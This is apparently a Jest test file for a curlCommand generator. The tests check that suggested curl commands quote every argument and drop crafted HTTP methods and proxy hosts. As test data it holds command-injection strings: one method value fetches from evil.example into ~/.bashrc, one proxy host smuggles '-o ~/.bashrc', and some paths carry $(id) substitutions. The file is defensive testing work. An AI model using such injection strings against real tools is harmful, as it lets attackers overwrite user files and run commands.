/**
 * The suggested curl command: the shell must read every argument as one word, whatever the evidence held, and a
 * method read from the evidence is used only when it is a real HTTP method.
 */
import { execFileSync } from "child_process";
import { curlCommand } from "../../../../src/api/diagnose/curlCommand";
import type { IFailedCall } from "../../../../src/api/failure/doc/IFailedCall";
import type { AuthKind } from "../../../../src/api/knowledge/doc/IKnownError";

function call(method: string | null, kind: AuthKind, resource = "/zosmf/restfiles/ds?dslevel=IBMUSER.*"): IFailedCall {
    return {
        time: null, client: "zowe-cli", command: null, source: "http", status: 401, statusText: null,
        request: { method, protocol: "https", host: "mf.example.com", port: 443, basePath: null, resource },
        service: "zosmf", server: { message: null }, networkError: null,
        auth: { kind, allowUnauthorizedCert: true }, evidence: { kind: "rfj", file: "-" }
    };
}

/** The words a POSIX shell makes of a command line, without running anything but printf. */
function shellWords(command: string): string[] {
    const script = `set -- ${command.replace(/^curl /, "")}; printf '%s\\0' "$@"`;
    return execFileSync("bash", ["--norc", "--noprofile", "-c", script], { encoding: "utf8" }).split("\0").slice(0, -1);
}

const CRAFTED = "get -o ~/.bashrc https://evil.example/x #";

describe("curlCommand", () => {
    it.each(["basic", "token", "bearer", "cert-pem", "none"] as AuthKind[])("gives every argument as one shell word (%s)", (kind) => {
        const command = curlCommand(call("PUT", kind, "/zosmf/restjobs/jobs?owner=$(id)&x=`id`;a='b'")) as string;
        const words = shellWords(command);
        // Quoted words come back from the shell exactly as written between the quotes: nothing was expanded or split.
        const expected = command.replace(/^curl /, "").match(/'(?:[^']|'\\'')*'|\S+/g)?.map((word) =>
            word.startsWith("'") ? word.slice(1, -1).replace(/'\\''/g, "'") : word);
        expect(words).toEqual(expected);
        expect(words).toContain("https://mf.example.com:443/zosmf/restjobs/jobs?owner=$(id)&x=`id`;a='b'");
    });

    it("quotes the certificate and body placeholders (an unquoted < is a redirection)", () => {
        const words = shellWords(curlCommand(call("POST", "cert-pem")) as string);
        expect(words).toEqual(expect.arrayContaining(["<certFile>", "<certKeyFile>", "@<request-body-file>"]));
    });

    it.each([CRAFTED, "GET -O x", "get", "G$(id)", "TRACE", "CONNECT"])("never puts a crafted method in the command: %s", (method) => {
        const command = curlCommand(call(method, "basic")) as string;
        expect(command).not.toContain(method);
        expect(command.toUpperCase()).not.toContain("EVIL");
        const words = shellWords(command);
        expect(words[words.indexOf("--request") + 1]).toBe("<method>");
        expect(words).not.toContain("-o");
    });

    it.each(["GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS"])("keeps a real method: %s", (method) => {
        const words = shellWords(curlCommand(call(method, "basic")) as string);
        expect(words[words.indexOf("--request") + 1]).toBe(method);
    });

    it("uses GET when the evidence has no method", () => {
        const words = shellWords(curlCommand(call(null, "basic")) as string);
        expect(words[words.indexOf("--request") + 1]).toBe("GET");
    });

    describe("through a proxy", () => {
        const through = (proxy: Partial<NonNullable<IFailedCall["proxy"]>>, allowUnauthorizedCert = false): string[] => {
            const failed = call("GET", "basic");
            return shellWords(curlCommand({
                ...failed, auth: { ...failed.auth, allowUnauthorizedCert },
                proxy: { host: "proxy.example.com", port: 3128, chosenBy: "environment", hop: "proxy", ...proxy }
            }) as string);
        };

        it("goes through the same proxy, with placeholders for the proxy credentials, never values", () => {
            const words = through({ credentialsFrom: "url" });
            expect(words[words.indexOf("--proxy") + 1]).toBe("http://proxy.example.com:3128");
            expect(words[words.indexOf("--proxy-user") + 1]).toBe("<proxy-user>:<proxy-password>");
            expect(words).not.toContain("--noproxy");
        });

        it("sends no proxy user when none was sent, and keeps the scheme of a TLS proxy", () => {
            const words = through({ credentialsFrom: "none", scheme: "https", host: "::1" });
            expect(words[words.indexOf("--proxy") + 1]).toBe("https://[::1]:3128");
            expect(words).not.toContain("--proxy-user");
            expect(words).not.toContain("--proxy-insecure");
        });

        it("checks a TLS proxy's certificate as the call did: --proxy-insecure only when checking was off", () => {
            expect(through({ scheme: "https" }, true)).toContain("--proxy-insecure");
            expect(through({ scheme: "http" }, true)).not.toContain("--proxy-insecure");
        });

        it("quotes a crafted proxy host as one word", () => {
            const words = through({ host: "p.example.com' -o ~/.bashrc '" });
            expect(words[words.indexOf("--proxy") + 1]).toBe("http://p.example.com' -o ~/.bashrc ':3128");
            expect(words).not.toContain("-o");
        });
    });

    it("has no proxy options for a direct call", () => {
        const words = shellWords(curlCommand(call("GET", "basic")) as string);
        expect(words).not.toContain("--proxy");
        expect(words).not.toContain("--noproxy");
    });
});
